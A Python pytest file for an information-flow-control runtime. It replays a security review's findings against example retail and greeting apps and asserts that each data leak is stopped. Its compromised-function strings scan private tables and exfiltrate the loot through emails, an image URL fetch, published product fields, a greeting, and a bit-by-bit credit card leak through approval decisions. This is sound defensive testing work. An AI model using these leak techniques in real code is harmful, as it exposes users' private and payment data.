"""Review of the example apps' policies: Hello Retail's declassifiers and routes, and the
minimal app's declassifier.

The review found that Hello Retail's declassifiers checked only which function spoke and the
shape of what it said, so one compromised function moved the owner's and the clients' data
to lower principals or public channels; that some routes let an ordinary principal act on
somebody else's data; and that the minimal app released any string from admin to public.
Each test here is the reviewer's reproducer turned around: a compromised function (a modified
copy of the app in tmp_path, the rest of the app as written) or an ordinary principal tries
the leak, and the test asserts that it is stopped — while the legitimate flow still works.

- F1  a compromised `message` puts owner data in the public assignment email
- F2  a compromised `receive` puts owner data in the image URL and in its "Thanks" reply
- F3  a compromised `read_product` publishes owner data inside a released product
- F4  a client (or another photographer) replies to a photographer's assignment
- F5  a client overwrites the owner's product, or anybody writes at bottom
- F6  a compromised `card_company` steers the approval bit with another client's card
- F7  a compromised `hello` (minimal app) returns another user's data as the greeting
- F9  the owner, asking at client:bob, buys with and overwrites Bob's stored card
"""

from __future__ import annotations

import dataclasses
import json
import shutil
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from hr_support import ImageServer, Mailbox, wait_for

from trapeze import App

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
HELLO_RETAIL = EXAMPLES / "hello_retail"

CREATE = "com.nordstrom/product/create/1-0-0"
UPDATE_PHONE = "com.nordstrom/user-info/update-phone/1-0-0"
LOGIN = "com.nordstrom/user-info/login/1-0-0"
PHOTOGRAPHERS = (("peter", "654321", "15551231234"), ("paul", "654322", "15551231235"))
PHONE_OF = {who: phone for who, _, phone in PHOTOGRAPHERS}
PRODUCT = "1234567890"
SECRET_NAME = "Secret Unreleased Widget"   # the owner's product, before release
BOB_CARD = "1234123412341234"
NO_CARD = "No credit card supplied and no credit card stored in DB"
# What a leak would carry: the clients' login names (client data) and the registration ids
# (the photographers' and the owner's data); none of it belongs in any public output.
LOOT_MARKERS = ("Secretname", "654321", "654322")


def auth(principal: str, label: str | None = None) -> dict[str, str]:
    headers = {"Authorization": f"Bearer dev-{principal}"}
    if label is not None:
        headers["X-Trapeze-Label"] = label
    return headers


def no_loot(text: str) -> bool:
    return not any(marker in text for marker in LOOT_MARKERS)


# ---------------------------------------------------------------------- external services
class Services:
    """An SMTP sink and an image server that records every path it is asked for."""

    def __init__(self) -> None:
        self.mailbox = Mailbox().start()
        self.smtp_port = self.mailbox.port
        self._images = ImageServer()
        self.paths = self._images.paths
        self.images = self._images.url

    def close(self) -> None:
        self._images.stop()
        self.mailbox.stop()


def copy_app(src: Path, dst: Path, replace: dict[str, str] | None = None) -> Path:
    """The example as written, with some function files replaced (the compromised ones)."""
    shutil.copytree(src, dst, ignore=shutil.ignore_patterns(".trapeze", "__pycache__"))
    for rel, code in (replace or {}).items():
        (dst / rel).write_text(code)
    return dst


def retail_app(root: Path, services: Services) -> App:
    """The manifest of the copy, its channels pointed at `services`, 1 s assignment retries."""
    m = App.load(root).manifest
    channels = dict(m.channels)
    channels["email"] = dataclasses.replace(channels["email"], port=services.smtp_port)
    channels["images"] = dataclasses.replace(channels["images"],
                                             url_prefixes=(services.images,))
    functions = dict(m.functions)
    functions["processor"] = dataclasses.replace(functions["processor"],
                                                 env={"ASSIGNMENT_RETRY_SECONDS": "1"})
    return App(dataclasses.replace(m, channels=channels, functions=functions))


def product(pid: str, name: str = SECRET_NAME, price: str = "10") -> dict[str, Any]:
    return {"schema": CREATE, "id": pid, "brand": "ACME", "name": name,
            "description": "Something you need", "category": "Things", "price": price,
            "origin": "hello-retail/testid/mark"}


def seed(c: httpx.Client, rt: Any) -> None:
    """The usual start: photographers register, clients log in, the owner creates a product."""
    for who, uid, phone in PHOTOGRAPHERS:
        r = c.post("/events", headers=auth(who), json={
            "schema": UPDATE_PHONE, "id": uid, "phone": phone[1:],
            "origin": f"hello-retail/testid/{who}"})
        assert r.status_code == 200, r.text
    for who in ("alice", "bob"):
        r = c.post("/events", headers=auth(who), json={
            "schema": LOGIN, "id": who, "name": f"{who.title()} Secretname",
            "origin": f"hello-retail/web/{who}"})
        assert r.status_code == 200, r.text
    owner = rt.view("owner")
    wait_for(lambda: all(owner.get("photoRegistrationTable", uid)
                         for _, uid, _ in PHOTOGRAPHERS), what="the registrations")
    wait_for(lambda: owner.get("usersTable", "bob") and owner.get("usersTable", "alice"),
             what="the logins")
    r = c.post("/events", headers=auth("owen"), json=product(PRODUCT))
    assert r.status_code == 200, r.text
    wait_for(lambda: owner.get("productCatalogTable", PRODUCT), what="the product")


def assignee(rt: Any) -> tuple[str, str, str]:
    """(principal, registration id, phone) of the photographer assigned to PRODUCT."""
    owner = rt.view("owner")

    def find() -> Any:
        for who, uid, phone in PHOTOGRAPHERS:
            if (owner.get("photoRegistrationTable", uid) or {}).get("assignment") == PRODUCT:
                return who, uid, phone
        return None

    return wait_for(find, what="an assignment")  # type: ignore[no-any-return]


# ====================================================================== compromised functions
EVIL_MESSAGE = '''
import json
from trapeze.guest import channels, kv

def handler(event, context):
    loot = json.dumps({"regs": kv.scan("photoRegistrationTable", limit=500),
                       "users": kv.scan("usersTable", limit=500)})
    product, me = event["data"]["id"], event["photographer"]["id"]
    other = "654322" if me == "654321" else "654321"
    free = {"to": "15550001111@photogs.com", "subject": "New Photography Assignment From The Store",
            "text": loot[:2000], "html": "<p>" + loot[:3000] + "</p>"}
    attempts = [
        free,                                                      # no ids: refused
        {**free, "assignment": {"product": product, "registration": other}},  # not assigned
        {**free, "subject": loot[:80], "assignment": {"product": product, "registration": me}},
    ]
    for message in attempts:
        try:
            channels.send("email", message)
            print("sent")
        except Exception as exc:
            print("refused", type(exc).__name__)
    return event
'''

EVIL_RECEIVE = '''
import json, re
from trapeze.guest import http, kv, label

def handler(event, context):
    body = json.loads(event["body"])
    label.raise_to("owner")
    regs = kv.scan("photoRegistrationTable", limit=500)
    users = kv.scan("usersTable", limit=500)
    loot = json.dumps({"regs": [(k, v.get("phone")) for k, v in regs],
                       "users": [(k, v.get("name")) for k, v in users]})
    base = body["MediaUrl0"].rsplit("/", 1)[0] + "/"
    try:
        http.request("GET", base + loot[:1900], timeout=5)
    except Exception as exc:
        print("fetch refused", type(exc).__name__)
    name = re.sub(r"[^A-Za-z0-9 ._-]", ".", loot)[:64]
    return {"statusCode": 200, "headers": {}, "body": f"Thanks so much {name}!"}
'''

EVIL_READ_PRODUCT = '''
import json
from trapeze.guest import kv, label

def handler(event, context):
    pid = str(event["id"])
    label.raise_to("owner")
    item = dict(kv.get("productCatalogTable", pid))
    loot = json.dumps({"regs": kv.scan("photoRegistrationTable", limit=500),
                       "users": kv.scan("usersTable", limit=500)})
    item.update(description=loot[:4000], updatedBy=loot[:200])
    return {"id": pid, "item": item, "price": "0"}
'''

EVIL_CARD_COMPANY = '''
from trapeze.guest import kv, label

def handler(event, context):
    who = str(label.current()).partition(":")[2]
    if event.get("op") == "store":
        label.raise_to(f"client-cc:{who}")
        kv.put("creditCardsTable", who, event["creditCard"])
        return {"stored": True}
    label.raise_to("cc-company")
    ask = str(event.get("creditCard", ""))
    if ask.startswith("bit:"):
        victim, i = ask[4:].split(":")
        card = next(v for v, lab in kv.facets("creditCardsTable", victim)
                    if lab == f"client-cc:{victim}")
        if (int(card) >> int(i)) & 1:
            return {"approved": "true", "authorization": int(card)}
        return {"approved": "false", "failureReason": card}
    return {"approved": "true", "authorization": 1}
'''


@pytest.fixture(scope="module")
def services() -> Iterator[Services]:
    s = Services()
    try:
        yield s
    finally:
        s.close()


@pytest.fixture(scope="module")
def compromised(tmp_path_factory: pytest.TempPathFactory,
                services: Services) -> Iterator[tuple[Any, httpx.Client]]:
    """Hello Retail with four compromised functions: message, receive, read_product and
    card_company. Everything else is as written."""
    tmp = tmp_path_factory.mktemp("hr_compromised")
    root = copy_app(HELLO_RETAIL, tmp / "app", {
        "functions/message.py": EVIL_MESSAGE,
        "functions/receive.py": EVIL_RECEIVE,
        "functions/read_product.py": EVIL_READ_PRODUCT,
        "functions/card_company.py": EVIL_CARD_COMPANY,
    })
    with retail_app(root, services).start(store=f"sqlite:///{tmp}/app.db", http=True) as rt, \
            httpx.Client(base_url=rt.url, timeout=30.0) as client:
        seed(client, rt)
        yield rt, client


def test_f1_assignment_email_is_built_from_the_store(
        compromised: tuple[Any, httpx.Client], services: Services) -> None:
    """F1 (and F1b, a correct `message` invoked with a crafted event: the email's value is the
    function's either way). The compromised `message` sends the loot as free text with no
    assignment, with the id of a photographer who is not assigned, and with the right ids."""
    rt, _ = compromised
    who, _, phone = assignee(rt)
    mail = wait_for(lambda: services.mailbox.all(), what="the assignment email")
    time.sleep(1.0)  # the three attempts are sequential; let the last one land, if it would
    mails = services.mailbox.all()
    # Only the one built from the store went out, to the photographer actually assigned.
    assert [m["to"] for m in mails] == [[f"{phone}@photogs.com"]], mails
    text = mail[0]["text"]
    assert "Subject: New Photography Assignment From The Store" in text
    assert f"Hello {who}! Please snap a pic of: {SECRET_NAME} Created by: mark" in text
    assert no_loot(text), text
    other = next(p for w, _, p in PHOTOGRAPHERS if w != who)
    assert other not in text
    refused = [a for a in rt.audit() if a.get("kind") == "refused"
               and (a.get("detail") or {}).get("declassifier") == "assignment_email"]
    assert len(refused) >= 2, refused


def test_f2_receive_leaks_neither_in_the_url_nor_in_the_reply(
        compromised: tuple[Any, httpx.Client], services: Services) -> None:
    """F2. The compromised `receive` raises to owner, reads the registrations and the users,
    downloads <image host>/<loot>, and answers "Thanks so much <loot>!"."""
    rt, client = compromised
    before = len(services.paths)
    photo = {"MediaUrl0": services.images + "photo.png", "MediaContentType0": "image/png",
             "From": PHONE_OF["peter"]}
    r = client.post("/photos", headers=auth("peter"), json=photo)
    # A photographer gets one of the two fixed replies: the loot "Thanks" becomes ServerError.
    assert r.status_code == 200 and r.text == "ServerError", r.text
    # Anybody else (here a client) gets the runtime's fixed refusal.
    r = client.post("/photos", headers=auth("alice"), json=photo)
    assert r.status_code != 200 and no_loot(r.text), r.text
    # The image host was never asked for anything: the download came after the raise.
    time.sleep(0.5)
    assert services.paths[before:] == []


def test_f3_release_publishes_only_what_the_declassifier_reads(
        compromised: tuple[Any, httpx.Client]) -> None:
    """F3. The compromised `read_product` puts the loot into the item's description and
    updatedBy, and names another price."""
    rt, client = compromised
    r = client.post("/release", headers=auth("owen", "bottom"), json={"id": PRODUCT})
    assert r.status_code == 200, r.text
    # The catalog entry and the price are published by separate stream events: wait for
    # both (CI once read the product between the two).
    got = wait_for(lambda: (lambda r: r.status_code == 200 and "price" in r.json() and r.json())(
        client.get(f"/products/{PRODUCT}")), what="the released product with its price")
    assert got == {"id": PRODUCT, "category": "Things", "brand": "ACME", "name": SECRET_NAME,
                   "description": "Something you need", "price": "10"}
    public = rt.view("bottom").get("productCatalogTable", PRODUCT)
    assert public == {"brand": "ACME", "name": SECRET_NAME, "description": "Something you need",
                      "category": "Things"}
    assert rt.view("bottom").get("productPriceTable", PRODUCT) == "10"
    # Nobody but a releaser: alice asking at bottom is refused, whatever the function says.
    r = client.post("/release", headers=auth("alice", "bottom"), json={"id": PRODUCT})
    assert r.status_code == 403, r.text


def test_f6_the_approval_bit_is_the_declassifiers_decision(
        compromised: tuple[Any, httpx.Client]) -> None:
    """F6. Bob stores his card; the compromised `card_company` (at cc-company every client's
    card is visible) approves Alice's purchases according to the bits of Bob's card."""
    rt, _ = compromised
    r = rt.invoke("card_company", {"op": "store", "creditCard": BOB_CARD}, as_principal="bob")
    assert r.status == "ok" and r.value == {"stored": True}, r
    assert rt.view("cc-company").get("creditCardsTable", "bob") == BOB_CARD
    for i in range(16):
        r = rt.invoke("authorize", {"user": "alice", "id": PRODUCT,
                                    "creditCard": f"bit:bob:{i}"}, as_principal="alice")
        assert r.status == "ok" and r.label == "client:alice", r
        # Alice has no stored card: the declassifier decides "no card", every time.
        assert r.value == {"approved": "false", "failureReason": NO_CARD}, (i, r.value)
    # Bob's own purchase with his stored card: approved (or the 1 % failure), a fresh code.
    r = rt.invoke("authorize", {"user": "bob", "id": PRODUCT}, as_principal="bob")
    assert r.status == "ok" and r.value.get("approved") in ("true", "false"), r
    assert r.value.get("authorization") != int(BOB_CARD)
    assert BOB_CARD not in json.dumps(r.value)


# ====================================================================== ordinary principals
@pytest.fixture(scope="module")
def retail(tmp_path_factory: pytest.TempPathFactory,
           services: Services) -> Iterator[tuple[Any, httpx.Client]]:
    """Hello Retail as written."""
    tmp = tmp_path_factory.mktemp("hr_correct")
    root = copy_app(HELLO_RETAIL, tmp / "app")
    services.mailbox.messages.clear()
    with retail_app(root, services).start(store=f"sqlite:///{tmp}/app.db", http=True) as rt, \
            httpx.Client(base_url=rt.url, timeout=30.0) as client:
        seed(client, rt)
        yield rt, client


def test_f4_only_the_assigned_photographer_replies(retail: tuple[Any, httpx.Client],
                                                  services: Services) -> None:
    """F4. POST /photos was open to every principal and `From` was not tied to the caller: a
    client probed phones (learning who was assigned) and completed the assignment."""
    rt, client = retail
    who, _, phone = assignee(rt)
    other = next(w for w, _, _ in PHOTOGRAPHERS if w != who)
    owner = rt.view("owner")
    wait_for(lambda: (owner.get("photoAssignmentsTable", phone) or {}).get("taskToken"),
             what="the recorded assignment")
    before = len(services.paths)
    photo = {"MediaUrl0": services.images + "photo.png", "MediaContentType0": "image/png",
             "From": phone}
    for headers in (auth("alice"), auth("owen"), auth("owen", f"photographer:{who}"),
                    auth(who, "public")):
        r = client.post("/photos", headers=headers, json=photo)
        assert r.status_code == 403 and r.text.startswith("ClientError: only a photographer"), \
            (headers, r.text)
    # Another photographer naming the assignee's phone: not one of their phones.
    r = client.post("/photos", headers=auth(other), json=photo)
    assert r.status_code == 200 and r.text == "ServerError", r.text
    assert services.paths[before:] == []  # nothing was even downloaded
    assert (owner.get("photoAssignmentsTable", phone) or {}).get("status") == "pending"
    assert owner.get("storedImagesTable", PRODUCT) is None
    # The assignee still can.
    r = client.post("/photos", headers=auth(who), json=photo)
    assert r.status_code == 200 and r.text == f"Thanks so much {who}!", r.text
    stored = wait_for(lambda: owner.get("storedImagesTable", PRODUCT), what="the image")
    assert stored["Metadata"] == {"from": phone}


def test_f5_only_the_owner_writes_products_and_nobody_writes_below_their_label(
        retail: tuple[Any, httpx.Client]) -> None:
    """F5. Any principal could post product/create (the consumer's put at the client's label
    replaced the owner's product), and anybody could post at bottom (replacing every facet)."""
    rt, client = retail
    owner = rt.view("owner")
    refusals = [
        (auth("alice"), {**product(PRODUCT, "Alice was here", "0"),
                         "origin": "hello-retail/web/alice"}),
        (auth("alice", "bottom"), {**product(PRODUCT, "Defaced", "0"),
                                   "origin": "hello-retail/web/alice"}),
        (auth("peter"), product(PRODUCT, "Peter's", "0")),
        (auth("owen", "bottom"), product(PRODUCT, "Owner at bottom", "0")),
        (auth("bob"), {"schema": UPDATE_PHONE, "id": "654321", "phone": "5559990000",
                       "origin": "hello-retail/web/bob"}),
        (auth("alice", "bottom"), {"schema": UPDATE_PHONE, "id": "654321",
                                   "phone": "5550000000", "origin": "hello-retail/web/alice"}),
        (auth("peter", "bottom"), {"schema": UPDATE_PHONE, "id": "654321",
                                   "phone": "5550000000", "origin": "hello-retail/testid/peter"}),
        (auth("owen"), {"schema": UPDATE_PHONE, "id": "654321", "phone": "5550000000",
                        "origin": "hello-retail/testid/owen"}),
        (auth("owen", "client:bob"), {"schema": LOGIN, "id": "owen", "name": "Owen",
                                      "origin": "x/y/owen"}),
        (auth("alice"), {"schema": LOGIN, "id": "bob", "name": "Bob", "origin": "x/y/alice"}),
    ]
    for headers, body in refusals:
        r = client.post("/events", headers=headers, json=body)
        assert r.status_code == 403, (headers, body, r.text)
        assert r.text.startswith("Retail Stream Event Writer Refused"), r.text
    time.sleep(1.0)
    assert owner.get("productCatalogTable", PRODUCT)["name"] == SECRET_NAME
    assert owner.get("productPriceTable", PRODUCT) == "10"
    assert rt.view("photographer:peter").get("photoRegistrationTable", "654321")["phone"] \
        == PHONE_OF["peter"]
    assert rt.view("bottom").get("photoRegistrationTable", "654321") is None
    assert rt.view("client:bob").get("usersTable", "owen") is None
    # The owner still creates products.
    r = client.post("/events", headers=auth("owen"), json=product("1234567899", "Another"))
    assert r.status_code == 200, r.text
    wait_for(lambda: owner.get("productCatalogTable", "1234567899"), what="the new product")


def test_f9_purchases_run_only_at_the_buyers_own_client_label(
        retail: tuple[Any, httpx.Client]) -> None:
    """F9. The card company takes the buyer from the label client:X; the owner (or the card
    company) asking at client:bob bought with Bob's stored card and overwrote it."""
    rt, client = retail
    r = rt.invoke("card_company", {"op": "store", "creditCard": BOB_CARD}, as_principal="bob")
    assert r.status == "ok" and r.value == {"stored": True}, r
    for who in ("owen", "ccco"):
        for body in ({"id": PRODUCT, "requestId": f"{who}-1"},
                     {"id": PRODUCT, "requestId": f"{who}-2", "creditCard": "4000000000000002",
                      "storeCC": True}):
            r = client.post("/purchase", headers=auth(who, "client:bob"), json=body)
            assert r.status_code == 403, (who, r.text)
    time.sleep(1.0)
    assert rt.view("cc-company").get("creditCardsTable", "bob") == BOB_CARD
    started = [e.get("name") for e in rt.engines.workflows.db.executions(
        workflow="purchase_product")]
    assert not any(str(n).startswith(("owen--", "ccco--")) for n in started), started
    # Bob himself, at his label, still buys (the purchase starts).
    r = client.post("/purchase", headers=auth("bob"), json={"id": PRODUCT, "requestId": "b-1"})
    assert r.status_code == 200 and r.json() == "Purchase submitted. Thank you!", r.text


# ====================================================================== the minimal app
EVIL_HELLO = '''
from trapeze.guest import kv, label

def handler(event, context):
    if isinstance(event, dict) and event.get("op") == "store":
        kv.put("notes", "bob", event["secret"])
        return {"greeting": "stored"}
    label.raise_to("admin")
    return {"greeting": "hello, " + str(kv.get("notes", "bob"))}
'''


def test_f7_minimal_greeting_releases_nothing_read_above_the_caller(tmp_path: Path) -> None:
    """F7. The minimal app's declassifier released any 200-character string from admin to
    public: a compromised `hello` raised to admin, read user:bob's notes and greeted with them."""
    root = copy_app(EXAMPLES / "minimal", tmp_path / "minimal", {"functions/hello.py": EVIL_HELLO})
    with App.load(root).start(store=f"sqlite:///{tmp_path}/app.db", http=True) as rt, \
            httpx.Client(base_url=rt.url, timeout=30.0) as client:
        r = rt.invoke("hello", {"op": "store", "secret": "bob's diary: 4111-1111"},
                      as_label="user:bob")
        assert r.status == "ok", r
        r = client.get("/hello")
        assert r.status_code != 200 and "diary" not in r.text, r.text
        r = rt.invoke("hello", {}, as_label="public")
        assert r.status != "ok" and "diary" not in json.dumps(r.value), r
    # The app as written still greets anybody.
    with App.load(EXAMPLES / "minimal").start(store=f"sqlite:///{tmp_path}/ok.db",
                                               http=True) as rt, \
            httpx.Client(base_url=rt.url, timeout=30.0) as client:
        r = client.get("/hello")
        assert r.status_code == 200 and r.json() == {"greeting": "hello, world"}, r.text
